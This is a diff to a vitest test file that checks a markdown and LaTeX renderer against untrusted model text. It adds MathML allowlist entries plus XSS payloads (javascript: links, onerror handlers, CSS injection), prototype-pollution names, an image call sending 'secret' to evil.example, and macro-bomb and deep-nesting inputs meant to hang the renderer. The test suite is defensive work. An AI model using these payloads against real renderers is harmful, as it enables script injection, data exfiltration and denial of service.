@@ -1,5 +1,7 @@
 // @vitest-environment jsdom
 // A model's text is not to be trusted: nothing in it may run, fetch, or hold the page up.
+import "./dom-style.ts";
+
 import { describe, expect, it } from "vitest";
 
 import { renderMarkdown, streamMarkdown } from "../src/markdown/index.ts";
@@ -7,10 +9,19 @@ import { renderMarkdown, streamMarkdown } from "../src/markdown/index.ts";
 const options = { copyLabel: () => "Copy", copiedLabel: () => "Copied" };
 
 const ELEMENTS = new Set(
-  ("a blockquote br button code del div em h4 h5 h6 hr input label li ol p pre s span strong table tbody td th thead tr ul").split(" "),
+  (
+    "a blockquote br button code del div em h4 h5 h6 hr input label li ol p pre s span strong table tbody td th thead tr ul " +
+    "math menclose merror mfrac mi mmultiscripts mn mo mover mpadded mphantom mprescripts mroot mrow mspace msqrt mstyle msub " +
+    "msubsup msup mtable mtd mtext mtr munder munderover"
+  ).split(" "),
 );
 const ATTRIBUTES = new Set(
-  "aria-label checked class dir disabled href rel role start tabindex target title translate type".split(" "),
+  (
+    "aria-label checked class data-source dir disabled href rel role start tabindex target title translate type " +
+    "accent columnalign columnlines columnspacing depth display displaystyle fence form height largeop linebreak linethickness lspace " +
+    "mathbackground mathcolor mathvariant maxsize minsize movablelimits notation rowlines rowspacing rspace scriptlevel separator " +
+    "side stretchy style symmetric voffset width"
+  ).split(" "),
 );
 
 const attacks: readonly string[] = [
@@ -48,6 +59,13 @@ const attacks: readonly string[] = [
   "`<script>alert(1)</script>`",
   "- [x]<img src=x onerror=alert(1)>",
   "[__proto__]\n\n[__proto__]: https://e.com\n[constructor]: https://e.com/c\n\n[constructor]",
+  "\\(\\href{javascript:alert(1)}{x} \\url{javascript:alert(1)}\\)",
+  "\\(\\includegraphics{https://evil.example/?q=secret}\\) $\\includegraphics{x}$",
+  "\\(\\text{<img src=x onerror=alert(1)>} \\unicode{x} \\char`\\<\\)",
+  "\\(\\style{background:url(https://evil.example)}{x}\\) \\(\\class{x}{y}\\) \\(\\id{z}{y}\\) \\(\\data{a=b}{y}\\)",
+  "\\[ x \\label{message} \\tag{<b>} \\] \\(\\ref{message} \\eqref{javascript:x}\\)",
+  "\\(\\color{red;background:url(//e.com)}{x} \\colorbox{#fff\"onclick=}{y} \\kern-1e9em\\)",
+  "\\(\\def\\__proto__{x}\\__proto__ \\constructor \\begin{constructor}x\\end{constructor}\\) \\(\\begin{__proto__}\\)",
   "```constructor\nx\n```\n```__proto__\ny\n```\n```toString\nz\n```",
 ];
 
@@ -103,6 +121,15 @@ const pathological: Record<string, string> = {
   "a long line of code": `\`\`\`js\n${"a(".repeat(30_000)}\n\`\`\``,
   "trailing blanks": `a${" ".repeat(50_000)}b`,
   "blank lines": "\n".repeat(50_000),
+  "formulas never closed": "\\(a ".repeat(4_900),
+  "displays that begin in each other, line by line": "$$ a\n\\[ b\n".repeat(2_000),
+  "displays never closed, in items": "- \\[ a\n".repeat(3_000),
+  "dollars": "$a ".repeat(6_000),
+  "dollars without blanks": "$a".repeat(9_000),
+  "formulas that go around in circles": "\\(\\def\\a{\\a\\a}\\a\\) ".repeat(500),
+  "formulas that grow": `\\(\\def\\a#1{#1#1#1#1#1#1#1#1}${"\\a{".repeat(8)}x${"}".repeat(8)}\\) `.repeat(30),
+  "a formula 1,900 deep": `\\[${"{".repeat(1_900)}x${"}".repeat(1_900)}\\]`,
+  "1,000 formulas": "\\(\\frac{a}{b}\\) and ".repeat(1_000),
 };
 
 describe("no text takes long", () => {
